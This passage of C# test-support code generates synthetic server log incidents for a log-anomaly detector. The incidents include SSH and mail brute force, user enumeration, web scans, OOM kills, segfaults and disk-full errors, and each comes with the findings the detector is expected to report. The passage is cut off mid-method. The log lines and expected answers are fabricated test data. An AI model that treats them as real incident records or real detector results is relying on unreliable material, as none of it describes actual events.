using System.Globalization;
using System.Text;

namespace LogWarden.Tests.Support.Replay;

/// <summary>The per-host helpers an incident writes with.</summary>
internal sealed record HostKit(ReplayHost Host, SshLines Ssh, SystemdLines Systemd, ServiceChatter Services, WebTraffic Web);

/// <summary>
/// Writes one incident of a kind into a host's logs, in one of its real-world wordings, and says what a
/// detector should report about it. Incidents are planned before the background is generated, so those
/// that change the background (a silenced source, a cron job that stops, a traffic shift, a failing
/// upstream) register a <see cref="BackgroundChange"/> that the background generators honour.
/// </summary>
internal sealed class IncidentInjector(HostKit kit)
{
    private static readonly string[] FirstNames =
    [
        "james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david", "elizabeth", "william", "barbara", "richard",
        "susan", "joseph", "jessica", "thomas", "sarah", "charles", "karen", "daniel", "nancy", "matthew", "lisa", "anthony", "betty", "mark",
        "sandra", "donald", "ashley", "steven", "kimberly", "paul", "emily", "andrew", "donna", "joshua", "michelle", "kevin", "carol", "brian",
        "amanda", "george", "melissa", "timothy", "deborah", "ronald", "stephanie", "jason", "rebecca", "ryan", "laura", "jacob", "sharon",
    ];

    private ReplayHost H => kit.Host;

    private ReplayRandom R => kit.Host.Random;

    private string Rel(string path) => H.Name + "/" + path;

    public InjectedIncident Inject(string kind, string id, DateTimeOffset start, TimeSpan room)
    {
        H.BeginCapture();
        Planned planned = kind switch
        {
            IncidentKinds.SshBruteForce => SshBruteForce(start, room),
            IncidentKinds.SshDistributed => SshDistributed(start, room),
            IncidentKinds.SshEnumeration => SshEnumeration(start, room),
            IncidentKinds.SshSuccessAfterFailures => SshSuccessAfterFailures(start, room),
            IncidentKinds.WebScan => WebScan(start, room),
            IncidentKinds.Http5xxBurst => Http5xxBurst(start, room),
            IncidentKinds.MailFtpBruteForce => MailFtpBruteForce(start, room),
            IncidentKinds.OomKill => OomKill(start),
            IncidentKinds.Segfault => Segfault(start, room),
            IncidentKinds.RestartLoop => RestartLoop(start, room),
            IncidentKinds.DiskFull => DiskFull(start, room),
            IncidentKinds.IoError => IoError(start, room),
            IncidentKinds.HungTask => HungTask(start, room),
            IncidentKinds.TlsExpired => TlsExpired(start, room),
            IncidentKinds.NewUser => NewUser(start),
            IncidentKinds.UnexpectedSudo => UnexpectedSudo(start),
            IncidentKinds.DatabaseErrors => DatabaseErrors(start, room),
            IncidentKinds.FirewallSurge => FirewallSurge(start, room),
            IncidentKinds.NewErrorBurst => NewErrorBurst(start, room),
            IncidentKinds.CronStopped => CronStopped(start, room),
            IncidentKinds.SourceSilent => SourceSilent(start, room),
            IncidentKinds.TemplateSpike => TemplateSpike(start, room),
            IncidentKinds.VolumeShift => VolumeShift(start, room),
            _ => throw new ArgumentOutOfRangeException(nameof(kind), kind, "unknown incident kind"),
        };
        var (first, last) = H.EndCapture();
        DateTimeOffset begin = planned.Begin ?? first;
        return new InjectedIncident
        {
            Id = id,
            Kind = kind,
            Host = H.Name,
            Start = planned.Start ?? first,
            Begin = begin,
            End = planned.End ?? (last > begin ? last : begin),
            Description = planned.Description,
            Expected = planned.Expected,
            Related = planned.Related,
        };
    }

    /// <summary>
    /// What an injector says about what it wrote. Times left null are the first and last line it wrote;
    /// absences set them explicitly.
    /// </summary>
    private sealed record Planned(string Description, IReadOnlyList<EntityRequirement> Expected)
    {
        public IReadOnlyList<EntityOption> Related { get; init; } = [];

        public DateTimeOffset? Start { get; init; }

        public DateTimeOffset? Begin { get; init; }

        public DateTimeOffset? End { get; init; }
    }

    private string AttackerAddress(double ipv6Share = 0.15)
    {
        string ip = R.Chance(ipv6Share) ? R.PublicIPv6() : R.PublicIPv4();
        H.ReservedAddresses.Add(ip);
        return ip;
    }

    private TimeSpan Duration(TimeSpan room, double minMinutes, double maxMinutes) =>
        TimeSpan.FromMinutes(Math.Min(R.Between(minMinutes, maxMinutes), Math.Max(1, room.TotalMinutes)));

    private static EntityRequirement[] Needs(params EntityRequirement[] requirements) => requirements;

    private static EntityRequirement ProcessOrUnit(string process, string unit) => EntityRequirement.Either(("process", process), ("unit", unit));

    // ---------------------------------------------------------------- SSH

    private Planned SshBruteForce(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress();
        DateTimeOffset end = t + Duration(room, 4, 20);
        double perSecond = R.Between(0.5, 4);
        string[] users = R.Chance(0.6) ? ["root"] : ["root", "admin", "ubuntu", "test", "oracle", "user", "postgres"];
        int failures = 0;
        while (t < end)
        {
            // Without password authentication there is nothing to retry on a connection: bots reconnect each time.
            int attempts = !H.SshPasswordAuth ? 1 : R.Chance(0.5) ? 6 : R.Next(1, 6);
            if (H.SshSessionProgram == "sshd-session" && failures > 30 && R.Chance(0.3))
            {
                kit.Ssh.PenaltyDrop(t, ip); // OpenSSH 9.8+ penalises the source: some connections are dropped at once
                t += R.Seconds(0.2, 2);
                continue;
            }

            // Parallel connections (hydra's tasks): the next one starts before this one has finished.
            kit.Ssh.FailedConnection(t, ip, R.Pick(users), attempts);
            failures += attempts;
            t += TimeSpan.FromSeconds(attempts / perSecond) + R.Millis(50, 400);
        }

        return new Planned($"SSH brute force from {ip}: {(H.SshPasswordAuth ? "~" + failures.ToString(CultureInfo.InvariantCulture) + " failed passwords" : "connections closed before authentication")} for {string.Join(", ", users)} at {perSecond:F1}/s", Needs(EntityRequirement.Of("ip", ip)));
    }

    private Planned SshDistributed(DateTimeOffset t, TimeSpan room)
    {
        string target = R.Pick([H.Admin, H.Deployer]);
        DateTimeOffset end = t + Duration(room, 20, 45);
        double perMinute = R.Between(3, 10);

        // Each address of the botnet tries once to three times; the addresses take turns.
        int addresses = Math.Max(20, (int)((end - t).TotalMinutes * perMinute / R.Between(1.5, 3)));
        var ips = Enumerable.Range(0, addresses).Select(_ => AttackerAddress(0.05)).ToArray();
        int attempts = 0;
        var used = new HashSet<string>();
        while (t < end)
        {
            string ip = ips[(attempts / 2 + R.Next(0, 3)) % ips.Length];
            used.Add(ip);
            string user = R.Chance(0.85) ? target : R.Pick(["root", "admin", target + "1", target + "2"]);
            kit.Ssh.FailedConnection(t, ip, user, 1, closeEarly: true);
            attempts++;
            t += R.Exponential(TimeSpan.FromMinutes(1 / perMinute));
        }

        return new Planned($"slow distributed SSH brute force on {target}: {attempts} attempts from {used.Count} addresses, {perMinute:F1}/min", Needs(EntityRequirement.Of("user", target)));
    }

    private Planned SshEnumeration(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress();
        int users = R.Next(40, 300);
        double perSecond = R.Between(0.5, 3);
        DateTimeOffset limit = t + room;
        var tried = new HashSet<string>();
        while (tried.Count < users && t < limit)
        {
            string user = R.Next(4) switch
            {
                0 => R.Pick(FirstNames),
                1 => R.Pick(FirstNames) + R.Next(1, 99).ToString(CultureInfo.InvariantCulture),
                2 => R.Pick(SshLines.ScannerUsers) + R.Next(1, 9).ToString(CultureInfo.InvariantCulture),
                _ => R.Pick(FirstNames)[0] + R.Pick(FirstNames),
            };
            if (kit.Ssh.IsValidUser(user) || !tried.Add(user))
            {
                continue;
            }

            kit.Ssh.FailedConnection(t, ip, user, 1, closeEarly: R.Chance(0.5));
            t += R.Exponential(TimeSpan.FromSeconds(1 / perSecond));
        }

        return new Planned($"invalid-user enumeration from {ip}: {tried.Count} user names at {perSecond:F1}/s", Needs(EntityRequirement.Of("ip", ip)));
    }

    private Planned SshSuccessAfterFailures(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress(0.1);
        var (user, uid) = R.Pick<(string, int)>([(H.Admin, H.AdminUid), (H.Deployer, H.DeployerUid), ("root", 0)]);
        int failures = R.Next(20, 150);
        TimeSpan span = Duration(room, 3, 20);
        DateTimeOffset begin = t;
        for (int i = 0; i < failures;)
        {
            int attempts = Math.Min(failures - i, R.Next(1, 7));
            kit.Ssh.FailedConnection(t, ip, user, attempts);
            i += attempts;
            t += TimeSpan.FromTicks(span.Ticks * attempts / failures);
        }

        // The password guessed at last (on a key-only host, a forgotten Match block allows passwords from anywhere).
        DateTimeOffset success = t + R.Seconds(1, 5);
        int pid = H.NextPid();
        int port = R.EphemeralPort();
        H.Auth(success, H.SshSessionProgram, pid, $"Accepted password for {user} from {ip} port {port} ssh2");
        H.Auth(success, H.SshSessionProgram, pid, string.Create(CultureInfo.InvariantCulture, $"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by {(H.PamNamesSessionOwner ? user : "")}(uid=0)"));
        H.Auth(success + R.Millis(10, 60), "systemd-logind", 512, string.Create(CultureInfo.InvariantCulture, $"New session {R.Next(300, 900)} of user {user}."));
        DateTimeOffset bye = success + R.Seconds(30, 600);
        H.Auth(bye, H.SshSessionProgram, pid, $"Received disconnect from {ip} port {port}:11: disconnected by user");
        H.Auth(bye, H.SshSessionProgram, pid, $"pam_unix(sshd:session): session closed for user {user}");
        return new Planned($"SSH login as {user} from {ip} after {failures} failed attempts", Needs(EntityRequirement.Of("ip", ip), EntityRequirement.Of("user", user)))
        {
            Start = success,
            Begin = begin,
        };
    }

    // ---------------------------------------------------------------- web, mail, FTP

    private Planned WebScan(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress(0.05);
        int requests = R.Next(300, 1500);
        TimeSpan span = Duration(room, 2, 8);
        string agent = R.Pick(WebVocabulary.ScanToolAgents);
        for (int i = 0; i < requests; i++)
        {
            DateTimeOffset at = t + TimeSpan.FromTicks(span.Ticks * i / requests) + R.Millis(0, 200);
            string path = R.Chance(0.3)
                ? R.Pick(WebVocabulary.ProbePaths)
                : "/" + R.Pick(WebVocabulary.ScanWords) + R.Pick(WebVocabulary.ScanSuffixes);
            int status = path is "/" or "/robots.txt" ? 200 : R.Pick<int>([(404, 85), (403, 6), (301, 3), (400, 3), (405, 3)]);
            string ua = agent.Contains("{0}", StringComparison.Ordinal) ? string.Format(CultureInfo.InvariantCulture, agent, (i + 1).ToString("D6", CultureInfo.InvariantCulture)) : agent;
            H.Access(at, ip, R.Chance(0.9) ? "GET" : R.Pick(["POST", "HEAD", "OPTIONS", "PROPFIND"]), path, "HTTP/1.1", status, status == 200 ? R.Next(300, 30000) : R.Pick([153, 162, 555, 196]), "-", ua, 0.0);
        }

        return new Planned($"web vulnerability scan from {ip}: {requests} requests in {span.TotalMinutes:F1} min ({agent.Split(' ')[0]})", Needs(EntityRequirement.Of("ip", ip)));
    }

    private Planned Http5xxBurst(DateTimeOffset t, TimeSpan room)
    {
        TimeSpan span = Duration(room, 4, 20);
        var (status, why) = R.Pick<(int, string)>([(502, "the app refuses connections"), (504, "the app hangs: upstream timeouts"), (500, "a bug: the app throws on every product request")]);
        double share = R.Between(0.5, 1);
        H.Changes.Add(new BackgroundChange(BackgroundChangeKind.UpstreamFailure, H.AppUnit, t, t + span, share, status));

        // Clients and the SPA retry: failures keep coming at a second or so even at night.
        string[] paths = ["/api/v1/products?page=1&sort=popular", "/api/v1/session", "/api/v1/cart", "/api/v1/notifications"];
        for (DateTimeOffset at = t; at < t + span; at += R.Exponential(TimeSpan.FromSeconds(1.2)))
        {
            string ip = H.BackgroundAddress(0.2);
            string path = R.Pick(paths);
            string request = $"request: \"GET {path} HTTP/2.0\", upstream: \"http://127.0.0.1:{H.AppPort}{path}\", host: \"{H.Domain}\"";
            H.Access(at, ip, "GET", path, "HTTP/2.0", status, status == 504 ? 562 : 166, "https://" + H.Domain + "/", R.Pick(WebVocabulary.Browsers), status == 504 ? 60.0 : 0.001);
            if (status == 504)
            {
                H.NginxError(at, "error", $"upstream timed out (110: Connection timed out) while reading response header from upstream, client: {ip}, server: {H.Domain}, {request}");
            }
            else if (status == 502)
            {
                H.NginxError(at, "error", $"connect() failed (111: Connection refused) while connecting to upstream, client: {ip}, server: {H.Domain}, {request}");
            }
            else
            {
                H.App(at, AppLevel.Error, "unhandled error in {Method} {Route}: {Error}", ("Method", "GET"), ("Route", path.Split('?')[0]), ("Error", "TypeError: Cannot read properties of undefined (reading 'priceCents')"));
            }
        }

        // The web server's logs or the app name the failure; when the app itself throws, its own log does too.
        var names = new List<(string, string)> { ("source", Rel("nginx/access.log")), ("source", Rel("nginx/error.log")), ("unit", H.AppUnit), ("process", H.AppProcess) };
        if (status == 500)
        {
            names.Add(("source", Rel(H.AppLogPath)));
        }

        return new Planned($"HTTP {status} burst for {span.TotalMinutes:F0} min: {why}", Needs(EntityRequirement.Either([.. names])))
        {
            Related = [new("source", Rel(H.AppLogPath)), new("unit", H.AppUnit), new("source", Rel("nginx/error.log")), new("source", Rel("nginx/access.log"))],
            Start = t,
            End = t + span,
        };
    }

    private Planned MailFtpBruteForce(DateTimeOffset t, TimeSpan room)
    {
        string ip = AttackerAddress(0.05);
        TimeSpan span = Duration(room, 5, 25);
        int attempts = Math.Max(R.Next(60, 500), (int)(span.TotalMinutes * 8));
        bool mail = H.HasMail && (H.Ftp == FtpServer.None || R.Chance(0.6));
        bool dovecot = mail && R.Chance(0.5);
        string mailDomain = H.Domain[(H.Domain.IndexOf('.', StringComparison.Ordinal) + 1)..];
        string[] users = ["info", "admin", "sales", "office", "contact", "test", "support", "webmaster", "postmaster", "billing"];
        for (int i = 0; i < attempts; i++)
        {
            DateTimeOffset at = t + TimeSpan.FromTicks(span.Ticks * i / attempts) + R.Millis(0, 900);
            string user = R.Pick(users);
            if (!mail)
            {
                kit.Services.FtpLogin(at, ip, user, success: false);
            }
            else if (dovecot)
            {
                string session = R.Alnum(16);
                H.Auth(at, "auth", null, $"pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser={user}@{mailDomain} rhost={ip}  user={user}@{mailDomain}");
                H.Mail(at + R.Millis(1800, 2600), "dovecot", null, string.Create(CultureInfo.InvariantCulture, $"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<{user}@{mailDomain}>, method=PLAIN, rip={ip}, lip={H.PrivateIp}, TLS, session=<{session}>"));
            }
            else
            {
                kit.Services.SaslFailure(at, ip);
            }
        }

        string service = !mail ? "FTP (" + H.Ftp + ")" : dovecot ? "IMAP (dovecot)" : "SMTP AUTH (postfix)";
        return new Planned($"{service} password guessing from {ip}: {attempts} failures in {span.TotalMinutes:F0} min", Needs(EntityRequirement.Of("ip", ip)));
    }

    // ---------------------------------------------------------------- processes and units

    private (string Process, string Unit, int Uid) Victim() => R.Pick<(string, string, int)>(
    [
        (H.AppProcess, H.AppUnit, H.AppUid),
        (H.AppProcess, H.WorkerUnit, H.AppUid),
        ("postgres", H.PgUnit, 114),
    ]);

    private Planned OomKill(DateTimeOffset t)
    {
        var (process, unit, uid) = Victim();
        int victimPid = H.NextPid();
        int variant = R.Next(10);
        string kernelCpu = R.Next(0, 2).ToString(CultureInfo.InvariantCulture);
        if (variant < 7)
        {
            // The kernel's OOM killer: the task that asked for memory is often not the one killed.
            string invoker = R.Chance(0.5) ? process : R.Pick(["nginx", "postgres", "kworker/u4:2", "containerd", H.AppProcess]);
            bool memcg = variant >= 5;
            H.Kern(t, $"{invoker} invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0");
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"CPU: {kernelCpu} PID: {H.NextPid()} Comm: {invoker} Not tainted {H.Kernel} {H.KernelBuild}"));
            H.Kern(t, "Hardware name: QEMU Standard PC (i440FX + PIIX, 1996), BIOS rel-1.16.3-0-ga6ed6b701f0a-prebuilt.qemu.org 04/01/2014");
            H.Kern(t, "Call Trace:");
            H.Kern(t, " <TASK>");
            foreach (string frame in (string[])[" dump_stack_lvl+0x47/0x60", " dump_header+0x4a/0x240", " oom_kill_process+0xf9/0x190", " out_of_memory+0x246/0x590", " __alloc_pages_slowpath.constprop.0+0xa8e/0xe00", " __alloc_pages+0x305/0x330", " filemap_fault+0x5d7/0xb90", " __do_fault+0x30/0x110", " handle_mm_fault+0xdb/0x2d0", " exc_page_fault+0x70/0x170", " asm_exc_page_fault+0x26/0x30", " </TASK>"])
            {
                H.Kern(t, frame);
            }

            if (memcg)
            {
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"memory: usage 1048576kB, limit 1048576kB, failcnt {R.Next(10, 9000)}"));
                H.Kern(t, "swap: usage 0kB, limit 9007199254740988kB, failcnt 0");
                H.Kern(t, $"Memory cgroup stats for /system.slice/{unit}:");
            }
            else
            {
                H.Kern(t, "Mem-Info:");
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"active_anon:{R.Next(200000, 240000)} inactive_anon:{R.Next(1000, 9000)} isolated_anon:0\n active_file:{R.Next(10, 900)} inactive_file:{R.Next(10, 900)} isolated_file:0"));
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"Node 0 DMA32 free:{R.Next(40000, 45000)}kB boost:0kB min:44156kB low:55192kB high:66228kB"));
            }

            H.Kern(t, "Tasks state (memory values in pages):");
            H.Kern(t, "[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name");
            foreach (var (name, owner) in (ValueTuple<string, int>[])[("systemd-journal", 0), ("sshd", 0), ("nginx", 33), ("postgres", 114), (process, uid)])
            {
                int pid = name == process ? victimPid : R.Next(300, 3000);
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"[{pid,7}] {owner,5} {pid,5} {R.Next(10000, 900000),8} {R.Next(1000, 200000),8} {R.Next(100000, 2000000),14} {0,8} {(name == "sshd" ? -1000 : 0),13} {name}"));
            }

            string scope = memcg
                ? $"oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,oom_memcg=/system.slice/{unit},task_memcg=/system.slice/{unit}"
                : $"oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/{unit}";
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"{scope},task={process},pid={victimPid},uid={uid}"));
            int rss = R.Next(600_000, 1_400_000);
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"{(memcg ? "Memory cgroup out of memory" : "Out of memory")}: Killed process {victimPid} ({process}) total-vm:{rss + R.Next(100000, 900000)}kB, anon-rss:{rss}kB, file-rss:{R.Next(0, 900)}kB, shmem-rss:0kB, UID:{uid} pgtables:{R.Next(1500, 4000)}kB oom_score_adj:0"));
            H.Kern(t + R.Millis(20, 300), string.Create(CultureInfo.InvariantCulture, $"oom_reaper: reaped process {victimPid} ({process}), now anon-rss:0kB, file-rss:0kB, shmem-rss:0kB"));
        }
        else
        {
            // systemd-oomd acts on memory pressure and names only the cgroup (the unit).
            H.Sys(t, "systemd-oomd", 488, string.Create(CultureInfo.InvariantCulture, $"Killed /system.slice/{unit} due to memory pressure for /system.slice being {R.Between(60, 95):F2}% > 50.00% for > 20s with reclaim activity"));
            H.Sys(t, "systemd", 1, string.Create(CultureInfo.InvariantCulture, $"{unit}: systemd-oomd killed {R.Next(1, 30)} process(es) in this unit."));
        }

        DateTimeOffset s = t + R.Millis(20, 400);
        if (variant < 7)
        {
            H.Sys(s, "systemd", 1, $"{unit}: A process of this unit has been killed by the OOM killer.");
        }

        kit.Systemd.Failed(s, unit, H.UnitDescription(unit), "killed", "9/KILL", "oom-kill", failedToStart: false);
        kit.Systemd.Consumed(s, unit, R.Between(100, 4000));
        DateTimeOffset restart = s + R.Seconds(1, 10);
        kit.Systemd.ScheduledRestart(restart, unit, 1);
        kit.Systemd.Stopped(restart, unit, H.UnitDescription(unit));
        kit.Systemd.Started(restart + R.Millis(5, 50), unit, H.UnitDescription(unit));
        if (unit == H.AppUnit)
        {
            H.Changes.Add(new BackgroundChange(BackgroundChangeKind.UpstreamFailure, unit, s, restart + TimeSpan.FromSeconds(2), 1, 502));
        }

        return new Planned($"OOM kill of {process} (pid {victimPid}) in {unit}{(variant >= 7 ? " by systemd-oomd" : variant >= 5 ? " (cgroup limit)" : "")}", Needs(ProcessOrUnit(process, unit)))
        {
            Related = [new("unit", unit), new("process", process), new("source", Rel("nginx/access.log")), new("source", Rel("nginx/error.log"))],
            End = restart + TimeSpan.FromSeconds(3),
        };
    }

    private Planned Segfault(DateTimeOffset t, TimeSpan room)
    {
        var (process, unit, uid, library) = R.Pick<(string, string, int, string)>(
        [
            (H.AppProcess, H.AppUnit, H.AppUid, "libc.so.6"),
            ("thumbnailer", H.WorkerUnit, H.AppUid, "libvips.so.42.17.1"),
            ("postgres", H.PgUnit, 114, "postgres"),
        ]);
        int crashes = R.Next(1, 5);
        DateTimeOffset end = t + Duration(room, 1, 8);
        bool coredump = R.Chance(0.6);
        for (int i = 0; i < crashes && t < end; i++)
        {
            int pid = H.NextPid();
            H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"{process}[{pid}]: segfault at {R.Hex(2)} ip 00007f{R.Hex(10)} sp 00007ff{R.Hex(9)} error {R.Pick([4, 6, 14])} in {library}[7f{R.Hex(10)}+{R.Hex(6)}] likely on CPU {R.Next(0, 2)} (core {R.Next(0, 2)}, socket 0)"));
            H.Kern(t, "Code: 48 8b 45 f8 48 89 c7 e8 1c fe ff ff 48 8b 45 f0 <8b> 00 89 45 ec 83 7d ec 00 74 1a 8b 45 ec 89 c6 48 8d 05 8a 0e 00 00");
            if (coredump)
            {
                int helper = H.NextPid();
                H.Sys(t + R.Millis(10, 50), "systemd", 1, string.Create(CultureInfo.InvariantCulture, $"Started systemd-coredump@{i}-{helper}-0.service - Process Core Dump (PID {helper}/UID 0)."));
                H.Sys(t + R.Millis(300, 2000), "systemd-coredump", helper, string.Create(CultureInfo.InvariantCulture, $"Process {pid} ({process}) of user {uid} dumped core.#012#012Module {library} from deb {library.Split('.')[0]}#012Stack trace of thread {pid}:#012#0  0x00007f{R.Hex(10)} n/a ({library} + 0x{R.Hex(5)})#012#1  0x00007f{R.Hex(10)} n/a ({library} + 0x{R.Hex(5)})#012ELF object binary architecture: AMD x86-64"));
                H.Sys(t + R.Millis(2000, 2100), "systemd", 1, string.Create(CultureInfo.InvariantCulture, $"systemd-coredump@{i}-{helper}-0.service: Deactivated successfully."));
            }

            if (process == "postgres")
            {
                int postmaster = R.Next(600, 900);
                H.Postgres(t + R.Millis(5, 50), postmaster, "LOG", string.Create(CultureInfo.InvariantCulture, $"server process (PID {pid}) was terminated by signal 11: Segmentation fault"));
                H.Postgres(t + R.Millis(5, 50), postmaster, "DETAIL", "Failed process was running: SELECT o.id, o.total_cents FROM orders o JOIN order_items i ON i.order_id = o.id WHERE o.customer_id = $1");
                H.Postgres(t + R.Millis(50, 60), postmaster, "LOG", "terminating any other active server processes");
                H.Postgres(t + R.Millis(60, 900), postmaster, "LOG", "all server processes terminated; reinitializing");
                H.Postgres(t + R.Millis(900, 1500), H.NextPid(), "LOG", "database system was interrupted; last known up at " + t.ToUniversalTime().AddMinutes(-3).ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture) + " UTC");
                H.Postgres(t + R.Millis(1500, 2500), postmaster, "LOG", "database system is ready to accept connections");
            }
            else if (process == H.AppProcess)
            {
                kit.Systemd.Failed(t + R.Millis(50, 200), unit, H.UnitDescription(unit), "dumped", "11/SEGV", "core-dump", failedToStart: false);
                kit.Systemd.ScheduledRestart(t + R.Seconds(1, 5), unit, i + 1);
                kit.Systemd.Started(t + R.Seconds(5, 6), unit, H.UnitDescription(unit));
            }
            else
            {
                H.Worker(t + R.Millis(5, 50), AppLevel.Error, "thumbnail child process exited with signal SIGSEGV for {Image}", ("Image", "uploads/" + R.Hex(12) + ".heic"));
            }

            t += R.Seconds(20, 120);
        }

        return new Planned($"{process} segfaults ({crashes}×) in {unit}{(coredump ? ", cores dumped" : "")}", Needs(ProcessOrUnit(process, unit)))
        {
            Related = [new("unit", unit), new("process", process), new("source", Rel(H.WorkerLogPath)), new("source", Rel(H.PgLogPath))],
        };
    }

    private Planned RestartLoop(DateTimeOffset t, TimeSpan room)
    {
        var (unit, program, complaint) = R.Pick<(string, string, string)>(
        [
            (H.WorkerUnit, H.AppProcess, "Error: connect ECONNREFUSED 127.0.0.1:6379"),
            ("redis-server.service", "redis-server", "Fatal error loading the DB, check server logs. Exiting."),
            ("pgbouncer.service", "pgbouncer", "FATAL cannot load config file"),
            (H.AppName + "-scheduler.service", H.AppProcess, "Error: Cannot find module '/srv/" + H.AppName + "/dist/scheduler.js'"),
        ]);
        DateTimeOffset end = t + Duration(room, 2, 15);
        double every = R.Between(2, 12);
        bool giveUp = R.Chance(0.4);
        int counter = 0;
        if (unit == H.WorkerUnit)
        {
            H.Changes.Add(new BackgroundChange(BackgroundChangeKind.Silence, H.WorkerLogPath, t, end));
        }

        while (t < end)
        {
            counter++;
            int pid = H.NextPid();
            H.Sys(t, program, pid, complaint);
            DateTimeOffset exit = t + R.Millis(100, 900);
            string description = H.UnitDescription(unit);
            kit.Systemd.Failed(exit, unit, description, failedToStart: false);
            kit.Systemd.Consumed(exit, unit, R.Between(0.1, 1.5));
            DateTimeOffset again = exit + TimeSpan.FromSeconds(every);
            kit.Systemd.ScheduledRestart(again, unit, counter);
            kit.Systemd.Stopped(again, unit, description);
            if (giveUp && counter >= 5 && R.Chance(0.3))
            {
                H.Sys(again, "systemd", 1, $"{unit}: Start request repeated too quickly.");
                H.Sys(again, "systemd", 1, $"{unit}: Failed with result 'exit-code'.");
                kit.Systemd.FailedToStart(again, unit, description);
                break;
            }

            kit.Systemd.Starting(again + R.Millis(1, 5), unit, description);
            kit.Systemd.Started(again + R.Millis(5, 50), unit, description);
            t = again + R.Millis(60, 300);
        }

        return new Planned($"{unit} in a restart loop ({counter} restarts, every {every:F0} s): {complaint}", Needs(EntityRequirement.Either(("unit", unit), ("process", program))))
        {
            Related = [new("source", Rel(H.WorkerLogPath))],
        };
    }

    private Planned DiskFull(DateTimeOffset t, TimeSpan room)
    {
        DateTimeOffset end = t + Duration(room, 5, 20);
        int variant = R.Next(3);
        var (process, unit, path, log) = variant switch
        {
            0 => ("postgres", H.PgUnit, $"/var/lib/postgresql/{H.PgVersion}/main/base/16384/16397", H.PgLogPath),
            1 => (H.AppProcess, H.AppUnit, $"/srv/{H.AppName}/uploads/tmp/{R.Hex(16)}", H.AppLogPath),
            _ => ("nginx", "nginx.service", "/var/lib/nginx/body/0000000" + R.Next(100, 999).ToString(CultureInfo.InvariantCulture), "nginx/error.log"),
        };
        string db = H.AppUser + "@" + H.AppUser;
        while (t < end)
        {
            switch (variant)
            {
                case 0:
                    int pid = R.Next(20_000, 400_000);
                    H.Postgres(t, pid, "ERROR", $"could not extend file \"base/16384/16397\": No space left on device", db);
                    H.Postgres(t, pid, "HINT", "Check free disk space.", db);
                    H.Postgres(t, pid, "STATEMENT", "INSERT INTO events (type, payload, created_at) VALUES ($1, $2, now())", db);
                    if (R.Chance(0.1))
                    {
                        H.Postgres(t, R.Next(500, 700), "LOG", $"could not write to file \"pg_wal/xlogtemp.{R.Next(100, 999)}\": No space left on device");
                    }

                    H.App(t + R.Millis(1, 20), AppLevel.Error, "database error: {Error}", ("Error", "could not extend file \"base/16384/16397\": No space left on device"));
                    break;
                case 1:
                    H.App(t, AppLevel.Error, "upload failed: {Error}", ("Error", $"ENOSPC: no space left on device, write '/srv/{H.AppName}/uploads/tmp/{R.Hex(16)}'"));
                    break;
                default:
                    H.NginxError(t, "crit", $"pwrite() \"/var/lib/nginx/body/0000000{R.Next(100, 999)}\" failed (28: No space left on device), client: {H.BackgroundAddress(0.2)}, server: {H.Domain}, request: \"POST /api/v1/uploads HTTP/2.0\", host: \"{H.Domain}\"");
                    break;
            }

            if (R.Chance(0.05))
            {
                H.Sys(t, "rsyslogd", null, "file '/var/log/syslog': write error - see https://www.rsyslog.com/solving-rsyslog-write-errors/ for help OS error: No space left on device [v8.2302.0 try https://www.rsyslog.com/e/2027 ]");
            }

            t += R.Exponential(TimeSpan.FromSeconds(R.Between(1, 8)));
        }

        return new Planned($"disk full: {process} cannot write {path}", Needs(EntityRequirement.Either(("process", process), ("unit", unit), ("path", path), ("source", Rel(log)))))
        {
            Related = [new("source", Rel(H.AppLogPath)), new("source", Rel(H.PgLogPath)), new("source", Rel("nginx/error.log")), new("unit", unit), new("source", Rel("syslog"))],
        };
    }

    private Planned IoError(DateTimeOffset t, TimeSpan room)
    {
        string device = H.DataDisk;
        string partition = device.StartsWith("nvme", StringComparison.Ordinal) ? device + "p1" : device + "1";
        DateTimeOffset end = t + Duration(room, 3, 15);
        bool oldKernel = H.Kernel.StartsWith("5.", StringComparison.Ordinal);
        int bursts = 0;
        while (t < end)
        {
            long sector = R.Next(1_000_000, 900_000_000);
            bool write = R.Chance(0.3);
            string op = write ? "op 0x1:(WRITE) flags 0x800" : "op 0x0:(READ) flags 0x80700";
            if (device.StartsWith("nvme", StringComparison.Ordinal))
            {
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"{device}: I/O Cmd(0x{(write ? 1 : 2)}) @ LBA {sector}, 8 blocks, I/O Error (sct 0x2 / sc 0x81) DNR"));
                H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"critical medium error, dev {device}, sector {sector} {op} phys_seg 1 prio class 2"));
            }
            else
            {
                if (device.StartsWith("sd", StringComparison.Ordinal))
                {
                    int tag = R.Next(0, 32);
                    H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"sd 2:0:0:0: [{device}] tag#{tag} FAILED Result: hostbyte=DID_OK driverbyte=DRIVER_OK cmd_age={R.Next(0, 4)}s"));
                    H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"sd 2:0:0:0: [{device}] tag#{tag} Sense Key : Medium Error [current]"));
                    H.Kern(t, string.Create(CultureInfo.InvariantCulture, $"sd 2:0:0:0: [{device}] tag#{tag} Add. Sense: Unrecovered read error - auto reallocate failed"));
                }

